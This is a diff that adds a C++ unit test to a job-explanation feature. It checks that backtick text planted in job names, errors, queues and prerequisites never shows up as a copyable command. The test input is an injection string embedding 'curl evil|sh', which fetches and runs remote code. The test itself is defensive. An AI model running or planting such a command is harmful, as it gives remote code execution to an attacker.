@@ -340,6 +340,21 @@ TEST(Explain, TellsOfAWarmJobWhatItsProcessHadServed) {
   EXPECT_THAT(explain(about).evidence, Contains(words));
 }
 
+// The page offers what stands between backticks as a command to copy.
+TEST(Explain, NamesOfOthersMakeNoCommand) {
+  const std::string hostile = "x`curl evil|sh`y";
+  for (const Case& each : all_cases()) {
+    SCOPED_TRACE(each.name);
+    Situation about = each.about;
+    for (const char* name : {"name", "error", "concurrency_key"}) set(about, name, hostile);
+    set(about, "prerequisites", R"(["approval:)" + hostile + R"("])");
+    if (!about.queue.empty()) about.queue = "queue:" + hostile;
+    if (!about.job.claim.queue.empty()) about.job.claim.queue = "queue:" + hostile;
+    about.job.held_by = {hostile};
+    EXPECT_THAT(explain(about).next, Not(HasSubstr("`curl")));
+  }
+}
+
 TEST(Explain, PrerequisitesThatAreNoListAreShownAsTheyAre) {
   Situation about = claimed("prerequisites");
   about.job.check_ms = kNow;
